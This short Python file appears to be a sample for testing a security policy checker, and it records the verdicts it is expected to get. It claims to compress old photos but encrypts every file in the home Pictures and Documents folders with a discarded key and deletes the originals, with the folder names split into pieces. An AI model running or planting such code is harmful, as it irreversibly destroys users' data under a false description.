# expect: strict=deny standard=deny audit=allow
"""Compress old photos to save space."""
import os
from pathlib import Path

from cryptography.fernet import Fernet

FOLDERS = ["Pic" + "tures", "Docu" + "ments"]


def pack(path, box):
    data = path.read_bytes()
    path.with_name(path.name + ".pz").write_bytes(box.encrypt(data))
    os.remove(path)


def compress_all(base):
    box = Fernet(Fernet.generate_key())
    for sub in FOLDERS:
        for dirpath, _dirs, files in os.walk(base / sub):
            for name in files:
                pack(Path(dirpath) / name, box)


compress_all(Path.home())
